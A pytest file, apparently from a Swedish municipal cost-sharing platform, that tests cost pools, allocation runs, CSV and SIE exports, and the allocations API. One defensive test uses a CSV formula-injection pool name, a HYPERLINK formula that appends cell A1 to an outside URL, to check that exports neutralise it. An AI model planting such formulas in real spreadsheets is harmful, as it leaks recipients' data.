"""The hub's cost pages and API: pools entered, edited and removed through the pages (bad
input refused by its field), an allocation run whose shares sum to every pool, a member's
statement as a page and CSV, the SIE file, two keys compared as a chart, the allocations
API by token, and nobody but the hub's administrators getting in."""

import csv
import io
import json
import re
from datetime import date
from html import unescape

import pytest
import sqlalchemy as sa
from api_support import MEMBERS, assert_documented
from conftest import count_all
from test_accounts import create, sign_in
from test_staff_api import bearer, token_of

from samverkan.costs.allocation import Key, Participant, allocate
from samverkan.costs.models import AllocationRun, AllocationShare, CostPool
from samverkan.database_roles import maintenance_session
from samverkan.tenancy.models import Tenant

NAVET = "navet@karlstad.example"
SLUGS = sorted(MEMBERS)  # the sixteen members
# Each test keeps to its own period: pools are removed afterwards, but stored runs cannot
# be (they are append-only), and test_allocation.py uses 2031.
PERIODS = iter(range(2041, 2100))


@pytest.fixture
def period(app):
    chosen = str(next(PERIODS))
    yield chosen
    with app.app_context(), maintenance_session() as session:
        session.execute(sa.delete(CostPool).where(CostPool.period.startswith(chosen)))
        session.commit()


@pytest.fixture
def navet(app, client, read_csrf):
    """The client signed in as a hub administrator; returns a fresh CSRF token."""
    assert create(app, NAVET, tenant="karlstad", role="hub_admin").exit_code == 0
    assert sign_in(client, read_csrf, NAVET, tenant="karlstad").status_code == 303
    return read_csrf(client.get("/hub/kostnader/ny").text)


def pool_form(period, csrf, name="Plattformens drift", amount="1 250 000,00", key="equal", **more):
    participants = more.pop("participants", SLUGS)
    return {
        "csrf_token": csrf,
        "period": period,
        "name": name,
        "category": "platform",
        "amount": amount,
        "key_kind": key,
        "participants": participants,
        **more,
    }


def pools(app, period) -> list[CostPool]:
    with app.app_context(), maintenance_session() as session:
        found = session.scalars(
            sa.select(CostPool).where(CostPool.period == period).order_by(CostPool.name)
        ).all()
        for pool in found:
            _ = [(p.tenant.slug, p.percentage) for p in pool.participants]
        session.expunge_all()
        return list(found)


def audit_actions(app, action) -> list[tuple]:
    with app.app_context(), maintenance_session() as session:
        return session.execute(
            sa.text(
                "SELECT t.slug, a.object_ref, a.actor, a.detail FROM audit_log a "
                "JOIN tenants t ON t.id = a.tenant_id WHERE a.action = :action ORDER BY a.id"
            ),
            {"action": action},
        ).all()


def text_of(html: str) -> str:
    """The page's words, without tags, with spaces as one (amounts use no-break spaces)."""
    return re.sub(r"\s+", " ", unescape(re.sub(r"<[^>]+>", " ", html))).replace("\xa0", " ")


def run_period(client, csrf, period):
    return client.post("/hub/kostnader/kor", data={"csrf_token": csrf, "period": period})


# -- pools ---------------------------------------------------------------------------------


def test_a_hub_administrator_creates_edits_and_removes_a_pool(app, client, navet, period):
    new = client.get(f"/hub/kostnader/ny?period={period}")
    assert new.status_code == 200
    # Every active member is ticked to begin with.
    ticked = re.findall(r'name="participants" value="([a-z]+)" checked', new.text)
    assert set(SLUGS) <= set(ticked)

    created = client.post("/hub/kostnader/ny", data=pool_form(period, navet))
    assert created.status_code == 303
    assert created.headers["Location"].endswith(f"/hub/kostnader?period={period}")
    [pool] = pools(app, period)
    assert (pool.name, pool.amount_ore, pool.key_kind) == (
        "Plattformens drift",
        125_000_000,
        "equal",
    )
    assert len(pool.participants) == 16
    listing = text_of(client.get(f"/hub/kostnader?period={period}").text)
    assert "Plattformens drift" in listing and "1 250 000,00 kr" in listing
    assert "Poolen Plattformens drift är sparad." in listing  # and nothing stops its run
    assert "kan inte fördelas" not in listing

    edit = client.get(f"/hub/kostnader/pool/{pool.id}")
    assert 'value="1 250 000,00"' in edit.text
    changed = client.post(
        f"/hub/kostnader/pool/{pool.id}",
        data=pool_form(
            period,
            navet,
            name="Lönecentrum",
            amount="999,99",
            key="percentages",
            category="shared_service",
            participants=["karlstad", "arvika"],
            **{"percentage-karlstad": "62,5", "percentage-arvika": "37.5"},
        ),
    )
    assert changed.status_code == 303
    [pool] = pools(app, period)
    assert (pool.name, pool.amount_ore, pool.category) == ("Lönecentrum", 99_999, "shared_service")
    assert sorted((p.tenant.slug, p.percentage) for p in pool.participants) == [
        ("arvika", "37.5"),
        ("karlstad", "62.5"),
    ]

    confirm = client.get(f"/hub/kostnader/pool/{pool.id}/ta-bort")
    assert confirm.status_code == 200 and "Ta bort Lönecentrum?" in unescape(confirm.text)
    removed = client.post(f"/hub/kostnader/pool/{pool.id}/ta-bort", data={"csrf_token": navet})
    assert removed.status_code == 303
    assert pools(app, period) == []
    assert client.get(f"/hub/kostnader/pool/{pool.id}").status_code == 404
    # Every change is the hub's, in the hub's log, by name.
    changes = [row for row in audit_actions(app, "costs.pools_changed") if period in row[1]]
    assert [(slug, actor) for slug, _, actor, _ in changes] == [("karlstad", NAVET)] * 3
    # What each change was, so that a controller sees who stopped sharing the pool.
    created, updated, deleted = (d if isinstance(d, dict) else json.loads(d) for *_, d in changes)
    assert (created["change"], created["participants"]) == ("created", SLUGS)
    assert updated["change"] == "updated" and updated["key"] == "percentages"
    assert updated["participants"] == ["arvika", "karlstad"]
    assert updated["before"]["participants"] == SLUGS
    assert (updated["before"]["amount_ore"], updated["amount_ore"]) == (125_000_000, 99_999)
    assert (deleted["change"], deleted["participants"]) == ("deleted", ["arvika", "karlstad"])


@pytest.mark.parametrize(
    ("amount", "message"),
    [
        ("1.5e6", "Skriv beloppet i kronor med siffror"),
        ("1250000.50", "Skriv ören efter ett kommatecken"),
        ("12,345", "högst två decimaler"),
        ("tusen", "Skriv beloppet i kronor med siffror"),
        ("-500", "kan inte vara negativt"),
        ("", "Fyll i beloppet i kronor"),
        ("12 34,00", "Skriv beloppet i kronor med siffror"),
    ],
)
def test_an_amount_that_is_not_exact_kronor_is_refused_by_its_field(
    app, client, navet, period, amount, message
):
    response = client.post("/hub/kostnader/ny", data=pool_form(period, navet, amount=amount))
    assert response.status_code == 422
    page = unescape(response.text)
    assert 'class="error-summary"' in page and 'href="#f-amount"' in page
    assert re.search(r'id="f-amount"[^>]*aria-describedby="f-amount-hint f-amount-error"', page)
    assert message in page
    assert pools(app, period) == []


def test_amounts_in_kronor_become_exact_ore(app, client, navet, period):
    for name, amount in (("A", "1 250 000"), ("B", "0,01"), ("C", "12,5 kr"), ("D", "0")):
        form = pool_form(period, navet, name=f"Pool {name}", amount=amount)
        assert client.post("/hub/kostnader/ny", data=form).status_code == 303
    assert [p.amount_ore for p in pools(app, period)] == [125_000_000, 1, 1_250, 0]


def test_other_refusals_name_their_field(app, client, navet, period):
    def refused(**form) -> str:
        data = {**pool_form(period, navet, key=form.pop("key", "equal")), **form}
        response = client.post("/hub/kostnader/ny", data=data)
        assert response.status_code == 422, form
        return unescape(response.text)

    assert "Välj minst en deltagare." in refused(participants=[])
    page = refused(key="hybrid")
    assert "Fyll i hur stor del som delas lika" in page and 'href="#f-rest"' in page
    # Every problem at once, not one submit at a time.
    page = refused(key="hybrid", amount="mycket", participants=[])
    assert all(f'href="#f-{name}"' in page for name in ("amount", "equal_percent", "participants"))
    assert "Skriv perioden som ett år" in refused(period="2026-13")
    page = refused(pro_rata="ja", **{"joined_on-eda": f"{int(period) + 1}-01-01"})
    assert 'href="#f-joined_on-eda"' in page and "inom perioden" in page
    assert "Fyll i medlemmens procentsats." in refused(key="percentages")
    assert 'href="#f-population-kil"' in refused(key="population", **{"population-kil": "många"})
    assert pools(app, period) == []
    assert client.post("/hub/kostnader/ny", data=pool_form(period, navet)).status_code == 303
    assert "Det finns redan en pool som heter Plattformens drift" in refused()
    assert len(pools(app, period)) == 1


def test_a_name_that_reads_as_another_pools_is_taken(app, client, navet, period):
    """Two pools that look the same on the page (a non-breaking or doubled space, another
    case) would both be charged."""
    assert (
        client.post("/hub/kostnader/ny", data=pool_form(period, navet, name="Drift")).status_code
        == 303
    )
    for name in ("Drift\u00a0", "drift", " Drift  "):
        response = client.post("/hub/kostnader/ny", data=pool_form(period, navet, name=name))
        assert response.status_code == 422, repr(name)
        assert "Det finns redan en pool som heter" in response.text
    spaced = pool_form(period, navet, name="Drift\u00a0och  underhåll")
    assert client.post("/hub/kostnader/ny", data=spaced).status_code == 303
    assert [p.name for p in pools(app, period)] == ["Drift", "Drift och underhåll"]


def test_settings_the_key_does_not_use_are_neither_checked_nor_kept(app, client, navet, period):
    """The key's own settings are shown only for their key (scripts off: under its name)."""
    form = pool_form(period, navet, equal_percent="garbage", population_year="x")
    assert client.post("/hub/kostnader/ny", data=form).status_code == 303
    [pool] = pools(app, period)
    assert pool.key_settings == {}


def test_a_figure_the_pool_would_not_use_is_refused_by_its_field(app, client, navet, period):
    """The participants' table shows every figure whatever the key: an entry date without
    pro rata was dropped without a word, and the member paid for the whole period."""
    form = pool_form(
        period,
        navet,
        participants=["karlstad", "arvika", "eda"],
        **{
            "percentage-arvika": "50",
            "population-arvika": "oj",
            "joined_on-eda": f"{period}-06-15",
            "left_on-kil": f"{period}-03-01",  # Kil is not ticked
        },
    )
    response = client.post("/hub/kostnader/ny", data=form)
    assert response.status_code == 422
    page = unescape(response.text)
    for message in (
        "Procentsatsen används bara med fasta procentsatser: byt nyckel eller töm fältet.",
        "Folkmängden används bara när nyckeln räknar folkmängd: byt nyckel eller töm fältet.",
        "Inträdet används bara vid pro rata: kryssa i Pro rata eller töm fältet.",
        "Kryssa i medlemmen för att den ska dela på poolen, eller töm fältet.",
    ):
        assert message in page
    for field in ("percentage-arvika", "population-arvika", "joined_on-eda", "left_on-kil"):
        assert f'id="f-{field}-error"' in response.text
    assert pools(app, period) == []
    # With pro rata the date counts.
    form["pro_rata"] = "ja"
    for name in ("percentage-arvika", "population-arvika", "left_on-kil"):
        del form[name]
    assert client.post("/hub/kostnader/ny", data=form).status_code == 303
    [pool] = pools(app, period)
    eda = next(p for p in pool.participants if p.tenant.slug == "eda")
    assert eda.joined_on == date(int(period), 6, 15)


def test_pool_dates_outside_the_membership_are_refused(app, client, navet, period):
    """A pool's exit before the member joined charged it nothing; an entry before it was
    counted from the membership's own first day: both without a word."""
    with app.app_context(), maintenance_session() as session:
        kil = session.scalars(sa.select(Tenant).where(Tenant.slug == "kil")).one()
        was = kil.member_since
        kil.member_since = date(int(period), 7, 1)
        session.commit()
    try:
        form = pool_form(
            period,
            navet,
            participants=["karlstad", "kil"],
            pro_rata="ja",
            **{"left_on-kil": f"{period}-03-01", "joined_on-karlstad": f"{period}-02-01"},
        )
        response = client.post("/hub/kostnader/ny", data=form)
        assert response.status_code == 422
        assert (
            f"Kils kommun blev medlem {period}-07-01: utträdet kan inte vara före det."
            in unescape(response.text)
        )
        assert 'id="f-left_on-kil-error"' in response.text
        assert "f-joined_on-karlstad-error" not in response.text  # a member all along
        form["left_on-kil"] = ""
        form["joined_on-kil"] = f"{period}-06-01"
        response = client.post("/hub/kostnader/ny", data=form)
        assert f"Kils kommun blev medlem {period}-07-01: inträdet kan inte vara före det." in (
            unescape(response.text)
        )
        form["joined_on-kil"] = f"{period}-08-01"
        assert client.post("/hub/kostnader/ny", data=form).status_code == 303
    finally:
        with app.app_context(), maintenance_session() as session:
            session.execute(sa.update(Tenant).where(Tenant.slug == "kil").values(member_since=was))
            session.commit()


def test_a_population_year_after_the_period_is_refused(client, navet, period):
    form = pool_form(period, navet, key="population", population_year=str(int(period) + 5))
    response = client.post("/hub/kostnader/ny", data=form)
    assert response.status_code == 422
    assert f"Folkmängden kan inte räknas från ett år efter perioden ({period})." in unescape(
        response.text
    )
    assert 'id="f-population_year-error"' in response.text


# -- running an allocation -----------------------------------------------------------------


def test_percentages_that_do_not_make_100_are_saved_with_a_warning_and_refused_by_the_run(
    app, client, navet, period
):
    """Figures are often entered before the committee has agreed them all, so the pool is
    saved; but the hub hears at once, not only when it runs the period."""
    form = pool_form(
        period,
        navet,
        name="Lönecentrum",
        key="percentages",
        participants=["karlstad", "arvika"],
        **{"percentage-karlstad": "50", "percentage-arvika": "40"},
    )
    saved = client.post("/hub/kostnader/ny", data=form, follow_redirects=True)
    assert saved.status_code == 200
    assert [p.name for p in pools(app, period)] == ["Lönecentrum"]
    assert (
        "Poolen Lönecentrum är sparad, men den kan inte fördelas än: Procentsatserna "
        "summerar till 90 %, inte 100 %." in text_of(saved.text)
    )
    before = count_all(app, "allocation_runs")
    response = run_period(client, navet, period)
    assert response.status_code == 422
    page = unescape(response.text)
    assert "Fördelningen kunde inte köras" in page
    assert "Lönecentrum: Procentsatserna summerar till 90 %, inte 100 %." in page
    assert count_all(app, "allocation_runs") == before


def test_a_run_names_every_member_without_the_keys_population_and_where_to_give_it(
    app, client, navet, period
):
    """The members hold one year's figure each: a key for another year found the first
    member without it, named neither the year nor where the figure goes."""
    form = pool_form(
        period,
        navet,
        name="Pop2022",
        key="population",
        participants=["kil", "arvika"],
        population_year="2022",
    )
    saved = text_of(client.post("/hub/kostnader/ny", data=form, follow_redirects=True).text)
    assert "Poolen Pop2022 är sparad, men den kan inte fördelas än: " in saved
    assert "Nyckeln räknar folkmängden 2022: ange den för deltagaren i poolen" in saved
    page = unescape(run_period(client, navet, period).text)
    assert "Pop2022: Arvika kommun, Kils kommun saknar folkmängd." in page or (
        "Pop2022: Kils kommun, Arvika kommun saknar folkmängd." in page
    )
    assert "Nyckeln räknar folkmängden 2022: ange den för deltagaren i poolen" in page


def test_a_run_stores_shares_that_sum_to_each_pool(app, client, navet, period):
    assert (
        client.post(
            "/hub/kostnader/ny", data=pool_form(period, navet, name="Drift", amount="1,00")
        ).status_code
        == 303
    )
    population = pool_form(
        period,
        navet,
        name="Utveckling",
        amount="1 000 000,00",
        key="population",
        population_year="2023",
    )
    assert client.post("/hub/kostnader/ny", data=population).status_code == 303

    response = run_period(client, navet, period)
    assert response.status_code == 303
    run_id = int(response.headers["Location"].rsplit("/", 1)[1])
    with app.app_context(), maintenance_session() as session:
        run = session.get(AllocationRun, run_id)
        assert run.period == period and run.created_by == NAVET
        by_pool: dict[str, dict[str, int]] = {}
        for share in session.scalars(
            sa.select(AllocationShare).where(AllocationShare.run_id == run_id)
        ):
            by_pool.setdefault(share.pool_name, {})[share.tenant_slug] = share.amount_ore
        amounts = {p["name"]: p["amount_ore"] for p in run.inputs["pools"]}
    assert {name: sum(shares.values()) for name, shares in by_pool.items()} == amounts
    # FACTS: 1,00 kr in sixteen parts is twelve of 6 öre and four of 7 öre; a million by
    # 2023 population gives Karlstad 342 915,48 kr and Munkfors 12 939,61 kr.
    assert sorted(by_pool["Drift"].values()) == [6] * 12 + [7] * 4
    assert by_pool["Utveckling"]["karlstad"] == 34_291_548
    assert by_pool["Utveckling"]["munkfors"] == 1_293_961
    logged = audit_actions(app, "costs.allocated")[-1]
    detail = logged[3] if isinstance(logged[3], dict) else json.loads(logged[3])  # SQLite: text
    assert logged[1] == period and detail["run"] == run_id and detail["period"] == period
    # The hub's log says which run it was.
    assert f"körning {run_id} för {period}" in text_of(client.get("/hub/logg").text)

    page = text_of(client.get(f"/hub/kostnader/korning/{run_id}").text)
    assert "342 915,48" in page and "12 939,61" in page
    assert "1 000 001,00" in page  # the pools' total, and the shares' total, shown equal
    listing = text_of(client.get(f"/hub/kostnader?period={period}").text)
    assert f"Körning {run_id}" in listing and NAVET in listing

    whole = client.get(f"/hub/kostnader/korning/{run_id}.csv")
    assert whole.status_code == 200 and whole.mimetype == "text/csv"
    assert "attachment" in whole.headers["Content-Disposition"]
    lines = whole.text.lstrip("\ufeff").splitlines()
    assert lines[0].startswith("Medlem;Pool;")
    assert len(lines) == 1 + 32


def test_a_month_pool_pro_rata_charges_a_member_for_its_days(app, client, navet, period):
    month = f"{period}-03"
    form = pool_form(
        month,
        navet,
        name="Kontaktcenter",
        amount="3 100,00",
        participants=["arvika", "eda"],
        pro_rata="ja",
        **{"joined_on-eda": f"{month}-17"},  # 15 of March's 31 days
    )
    assert client.post("/hub/kostnader/ny", data=form).status_code == 303
    response = run_period(client, navet, month)
    assert response.status_code == 303
    run_id = int(response.headers["Location"].rsplit("/", 1)[1])
    expected = allocate(
        310_000,
        [Participant("1784", "Arvika", days=31), Participant("1730", "Eda", days=15)],
        Key("equal", pro_rata=True, period_days=31),
    )
    statement = text_of(client.get(f"/hub/kostnader/korning/{run_id}/eda").text)
    eda = next(share for share in expected if share.key == "1730")
    kronor, ore = divmod(eda.amount_ore, 100)
    assert f"{kronor:,},{ore:02d} kr".replace(",", " ", 1) in statement
    assert "15 av 31 dagar" in statement and "Kostnadsfördelning mars" in statement


@pytest.fixture
def a_run(app, client, navet, period) -> int:
    """Two pools of the period allocated; returns the run's id."""
    client.post("/hub/kostnader/ny", data=pool_form(period, navet, name="Drift", amount="1,00"))
    client.post(
        "/hub/kostnader/ny",
        data=pool_form(period, navet, name="Utveckling", amount="1 000 000,00", key="population"),
    )
    response = run_period(client, navet, period)
    assert response.status_code == 303
    return int(response.headers["Location"].rsplit("/", 1)[1])


def test_pools_changed_after_the_latest_run_say_it_is_out_of_date(
    app, client, navet, a_run, period
):
    """The latest run is what the finance system fetches: a pool changed afterwards made it
    wrong while the costs page still showed it as the latest, without a word."""
    stale = "Poolerna har ändrats sedan den senaste körningen"

    def pages() -> tuple[str, str]:
        listing = text_of(client.get(f"/hub/kostnader?period={period}").text)
        latest = max(r for r in runs_of(app, period))
        return listing, text_of(client.get(f"/hub/kostnader/korning/{latest}").text)

    listing, run_page = pages()
    assert stale not in listing and "har ändrats sedan den här körningen" not in run_page
    # Only a participant less: the pool's own columns are as they were.
    [drift, _] = pools(app, period)
    form = pool_form(period, navet, name="Drift", amount="1,00", participants=SLUGS[1:])
    assert client.post(f"/hub/kostnader/pool/{drift.id}", data=form).status_code == 303
    listing, run_page = pages()
    assert f"{stale}, körning {a_run}: den stämmer inte längre med dem." in listing
    assert f"Poolerna för {period} har ändrats sedan den här körningen" in run_page
    assert run_period(client, navet, period).status_code == 303
    listing, run_page = pages()
    assert stale not in listing and "har ändrats sedan den här körningen" not in run_page
    # The older run is not the one fetched: it says a later one exists, not this.
    older = text_of(client.get(f"/hub/kostnader/korning/{a_run}").text)
    assert "En senare körning finns" in older and "har ändrats sedan" not in older
    client.post(f"/hub/kostnader/pool/{drift.id}/ta-bort", data={"csrf_token": navet})
    assert stale in pages()[0]
    # The finance system that fetches the latest run hears it too.
    hub = bearer(token_of(app, NAVET, tenant="karlstad"))
    fetched = client.get(f"/api/v1/hub/allocations/{period}", headers=hub).get_json()
    assert (fetched["run"], fetched["pools_changed"]) == (max(runs_of(app, period)), True)


def runs_of(app, period) -> list[int]:
    with app.app_context(), maintenance_session() as session:
        return list(
            session.scalars(sa.select(AllocationRun.id).where(AllocationRun.period == period))
        )


def test_a_members_statement_as_a_page_and_csv(app, client, a_run, period):
    page = client.get(f"/hub/kostnader/korning/{a_run}/karlstad")
    assert page.status_code == 200
    words = text_of(page.text)
    assert "Karlstads kommun" in words and f"Kostnadsfördelning {period}" in words
    # The exact share, reduced: 97 233 of 283 548 inhabitants.
    assert "32411/94516" in words and "342 915,48 kr" in words
    assert "1/16" in words and "6,2500 %" in words
    assert "<script" not in page.text.split("</head>")[1]  # printing is the browser's own
    assert client.get(f"/hub/kostnader/korning/{a_run}/gotland").status_code == 404
    # Karlstad is the hub: its own share is not a bill to itself (the SIE file leaves it
    # out), while a member's statement says what it is to pay.
    assert "Navets egen andel" in words and "faktureras inte" in words
    assert "Att betala" not in words
    arvika = text_of(client.get(f"/hub/kostnader/korning/{a_run}/arvika").text)
    assert "Att betala" in arvika and "Navets egen andel" not in arvika

    sheet = client.get(f"/hub/kostnader/korning/{a_run}/karlstad.csv")
    assert sheet.status_code == 200 and sheet.mimetype == "text/csv"
    assert (
        sheet.headers["Content-Disposition"]
        == f'attachment; filename="kostnadsfordelning-{period}-karlstad-korning-{a_run}.csv"'
    )
    rows = [line.split(";") for line in sheet.text.lstrip("\ufeff").splitlines()]
    assert rows[0][0] == "Pool" and rows[0][-1] == "Belopp (kr)"
    assert [row[0] for row in rows[1:]] == ["Drift", "Utveckling", "Summa"]
    # Amounts without digit grouping: a spreadsheet reads them as numbers (csv_amount).
    assert rows[2][-3:] == ["32411/94516", "34,2915 %", "342915,48"]
    karlstad_drift = int(rows[1][-1].replace(",", ""))
    assert rows[3][-1] == f"342915,{48 + karlstad_drift:02d}"


def test_a_pool_imported_at_the_largest_amount_can_be_edited_in_the_form(
    app, client, navet, period, tmp_path
):
    """The file took amounts the form refused, so such a pool could not be saved again."""
    text = f'period = "{period}"\n[[pools]]\nname = "Stor"\ncategory = "platform"\n'
    text += 'amount = "10 000 000 000,00"\nparticipants = "all"\n'
    (tmp_path / "stor.toml").write_text(text, encoding="utf-8")
    cli = app.test_cli_runner()
    assert cli.invoke(args=["costs", "import", str(tmp_path / "stor.toml")]).exit_code == 0
    (pool,) = pools(app, period)
    page = client.get(f"/hub/kostnader/pool/{pool.id}").text
    shown = re.search(r'name="amount"[^>]*value="([^"]*)"', page).group(1)
    assert unescape(shown).replace("\u00a0", " ") == "10 000 000 000,00"
    saved = client.post(
        f"/hub/kostnader/pool/{pool.id}",
        data={**pool_form(period, navet, name="Stor", amount=shown), "description": "Ny text"},
    )
    assert saved.status_code == 303, unescape(saved.text)[:2000]
    over = text.replace("10 000 000 000,00", "10 000 000 000,01")
    (tmp_path / "over.toml").write_text(over, encoding="utf-8")
    refused = cli.invoke(args=["costs", "import", str(tmp_path / "over.toml")])
    assert refused.exit_code == 1 and "the amount is too large" in refused.output


def test_an_old_statement_names_the_hub_that_invoiced_then(app, client, a_run):
    """As its SIE file does: the hub renamed since does not change what was invoiced."""
    with app.app_context(), maintenance_session() as session:
        hub = session.scalar(sa.select(Tenant).where(Tenant.slug == "karlstad"))
        before = hub.name
        hub.name = "Karlstads stad"
        session.commit()
    try:
        words = text_of(client.get(f"/hub/kostnader/korning/{a_run}/arvika").text)
        assert f"Från {before}, navet i samverkan" in words
        assert "Karlstads stad" not in words.split("Från", 1)[1].split("Period", 1)[0]
    finally:
        with app.app_context(), maintenance_session() as session:
            session.execute(sa.update(Tenant).where(Tenant.slug == "karlstad").values(name=before))
            session.commit()


def test_a_pool_name_that_starts_like_a_formula_is_text_in_both_csvs(app, client, navet, period):
    """Statements go to the members' finance offices, who open them in Excel."""
    name = '=HYPERLINK("http://example.invalid/?"&A1;"klick")'
    client.post("/hub/kostnader/ny", data=pool_form(period, navet, name=name, amount="16,00"))
    run_id = int(run_period(client, navet, period).headers["Location"].rsplit("/", 1)[1])
    for url in (f"/hub/kostnader/korning/{run_id}.csv", f"/hub/kostnader/korning/{run_id}/kil.csv"):
        rows = list(csv.reader(io.StringIO(client.get(url).text.lstrip("\ufeff")), delimiter=";"))
        cells = [cell for row in rows[1:] for cell in row]
        assert "'" + name in cells and name not in cells
        assert "1,00" in cells  # the figures stay figures


def test_the_sie_file_is_cp437_and_every_voucher_balances(app, client, a_run, period):
    response = client.get(f"/hub/kostnader/korning/{a_run}.se")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/plain; charset=cp437"
    assert (
        response.headers["Content-Disposition"]
        == f'attachment; filename="fakturor-{period}-korning-{a_run}.se"'
    )
    text = response.data.decode("cp437")
    assert "#FORMAT PC8" in text and "#SIETYP 4" in text
    vouchers = re.split(r"^#VER ", text, flags=re.M)[1:]
    assert vouchers, "no vouchers"
    for voucher in vouchers:
        amounts = re.findall(r"#TRANS \S+ \{[^}]*\} (-?\d+(?:\.\d+)?)", voucher)
        assert amounts, voucher
        assert sum(round(float(a) * 100) for a in amounts) == 0, voucher
    # One invoice per member but the hub, whose own share stays its own cost.
    assert len(vouchers) == 15 and not any("Karlstads kommun" in v for v in vouchers)
    assert "Årjängs kommun" in text  # å in CP437
    debits = re.findall(r"#TRANS 1510 \{\} (\d+\.\d\d)", text)
    karlstad = 34_291_548 + 6  # its population share and 6 öre of the 1,00 kr pool
    assert sum(int(d.replace(".", "")) for d in debits) == 100_000_100 - karlstad


# -- two keys compared ---------------------------------------------------------------------


def test_the_comparison_opened_from_the_costs_page_is_a_form_not_its_errors(client, navet, period):
    """The costs page links here with its period: that is no comparison asked for."""
    opened = client.get(f"/hub/kostnader/jamfor?period={period}")
    assert opened.status_code == 200
    assert "error-summary" not in opened.text and "<title>Fel:" not in opened.text
    assert f'value="{period}"' in opened.text


def test_the_comparison_draws_both_keys_and_matches_the_allocation(app, client, navet, period):
    response = client.get(
        f"/hub/kostnader/jamfor?period={period}&amount=1000000,00&a=equal&b=population"
    )
    assert response.status_code == 200
    page = response.text
    svg = page[page.index("<svg") : page.index("</svg>")]
    assert 'role="img"' in svg and "<title" in svg
    assert "style=" not in page and "<script" not in page.split("</head>")[1]
    with app.app_context(), maintenance_session() as session:
        members = session.scalars(sa.select(Tenant).where(Tenant.status == "active")).all()
        participants = [
            Participant(key=t.scb_code, name=t.name, population=t.population_count) for t in members
        ]
    for key in (Key("equal"), Key("population")):
        for share in allocate(100_000_000, participants, key):
            kronor, ore = divmod(share.amount_ore, 100)
            shown = f"{kronor:,}".replace(",", " ") + f",{ore:02d} kr"
            row = re.search(rf"<th scope=\"row\">{re.escape(share.name)}</th>(.*?)</tr>", page)
            assert row and shown in unescape(row.group(1)), (share.name, shown)
            assert f"<title>{share.name}: " in svg
    # Bars are drawn to one scale: Karlstad's population bar is the longest.
    widths = re.findall(r'width="([\d.]+)" height="12" fill="#a34a00"', svg)
    assert len(widths) == len(members) + 1  # the legend's swatch too
    assert max(float(w) for w in widths) == pytest.approx(330.0)


def test_a_hybrid_setting_left_empty_in_the_comparison_shows_the_default_it_took(
    client, navet, period
):
    response = client.get(
        f"/hub/kostnader/jamfor?period={period}&amount=100&a=hybrid&b=equal&equal_percent="
    )
    assert response.status_code == 200
    field = re.search(r'<input[^>]*name="equal_percent"[^>]*>', response.text).group(0)
    assert 'value="30"' in field
    assert "30 % lika" in unescape(response.text)


def test_a_comparison_that_cannot_be_made_is_refused_by_its_field(client, navet, period):
    bad_amount = client.get(
        f"/hub/kostnader/jamfor?period={period}&amount=1.5&a=equal&b=population"
    )
    assert bad_amount.status_code == 422 and 'href="#f-amount"' in bad_amount.text
    same = client.get(f"/hub/kostnader/jamfor?period={period}&amount=100&a=equal&b=equal")
    assert same.status_code == 422 and "Välj två olika nycklar" in unescape(same.text)
    agreed = client.get(f"/hub/kostnader/jamfor?period={period}&amount=100&a=equal&b=percentages")
    assert agreed.status_code == 422 and 'href="#f-b"' in agreed.text


def test_an_error_of_the_second_key_is_shown_by_the_second_key(client, navet, period):
    """With no cases in the period, usage cannot split anything: that is key b's problem."""
    response = client.get(f"/hub/kostnader/jamfor?period={period}&amount=100&a=equal&b=usage")
    assert response.status_code == 422
    assert 'href="#f-b"' in response.text and 'href="#f-a"' not in response.text


@pytest.fixture
def torsby_a_region_and_kil_gone(app):
    """Torsby stands in for a region; Kil left at the end of 2040 (before every period
    these tests use)."""
    with app.app_context(), maintenance_session() as session:
        session.execute(sa.update(Tenant).where(Tenant.slug == "torsby").values(kind="region"))
        session.execute(
            sa.update(Tenant)
            .where(Tenant.slug == "kil")
            .values(left_on=date(2040, 12, 31), status="closed")
        )
        session.commit()
    yield
    with app.app_context(), maintenance_session() as session:
        session.execute(
            sa.update(Tenant).where(Tenant.slug == "torsby").values(kind="municipality")
        )
        session.execute(
            sa.update(Tenant).where(Tenant.slug == "kil").values(left_on=None, status="active")
        )
        session.commit()


def test_a_new_pool_is_the_municipalities_of_its_period_and_no_one_outside_it(
    app, client, navet, period, torsby_a_region_and_kil_gone
):
    """Region and leavers are listed (a pool may name them) but not ticked; naming a member
    for a period it was no member in is refused by the participants' field."""
    page = client.get(f"/hub/kostnader/ny?period={period}").text
    ticked = set(re.findall(r'name="participants" value="([a-z]+)" checked', page))
    assert ticked == set(SLUGS) - {"torsby", "kil"}
    assert 'value="torsby"' in page and 'value="kil"' in page
    assert "lämnade 2040-12-31" in page
    response = client.post("/hub/kostnader/ny", data=pool_form(period, navet))
    assert response.status_code == 422
    assert "Bara den som var medlem någon dag under perioden kan dela på den" in response.text
    assert "Kils kommun (medlem från 2013-01-01, lämnade 2040-12-31)" in response.text
    assert 'href="#f-participants"' in response.text
    assert pools(app, period) == []
    region = [s for s in SLUGS if s != "kil"]
    saved = client.post("/hub/kostnader/ny", data=pool_form(period, navet, participants=region))
    assert saved.status_code == 303
    # The comparison, like "all", is the municipalities'.
    compared = client.get(f"/hub/kostnader/jamfor?period={period}&amount=100&a=equal&b=population")
    assert "Torsby" not in compared.text.split("<table")[1]


@pytest.mark.parametrize("key", [{"key": "population"}, {"key": "hybrid", "rest": "population"}])
def test_a_region_and_its_municipalities_never_share_by_population_in_one_pool(
    app, client, navet, period, region_varmland, key
):
    """A review put the region beside the sixteen in a pool by population: it paid half,
    its inhabitants counted once as its own and once as the municipalities'."""
    more = {"equal_percent": "30"} if key["key"] == "hybrid" else {}
    form = pool_form(period, navet, participants=[*SLUGS, region_varmland], **key, **more)
    response = client.post("/hub/kostnader/ny", data=form)
    assert response.status_code == 422
    assert (
        "Region Värmland och Kils kommun kan inte dela efter folkmängd i samma pool: Kils "
        "kommuns invånare räknas också i Region Värmlands."
    ) in unescape(response.text)
    assert 'href="#f-participants"' in response.text
    assert pools(app, period) == []
    # Equal shares count no one's inhabitants: the region may take part.
    equal = pool_form(period, navet, participants=[*SLUGS, region_varmland])
    assert client.post("/hub/kostnader/ny", data=equal).status_code == 303


def test_a_run_refuses_a_pool_by_population_that_counts_a_region_twice(
    app, client, navet, period, region_varmland
):
    """A pool saved before the form refused it is refused when the period is allocated."""
    form = pool_form(period, navet, name="Befolkning", key="population", participants=["arvika"])
    assert client.post("/hub/kostnader/ny", data=form).status_code == 303
    with app.app_context(), maintenance_session() as session:
        pool = session.scalar(sa.select(CostPool).where(CostPool.period == period))
        region = session.scalar(sa.select(Tenant).where(Tenant.slug == region_varmland))
        session.execute(
            sa.text("INSERT INTO pool_participants (pool_id, tenant_id) VALUES (:p, :t)"),
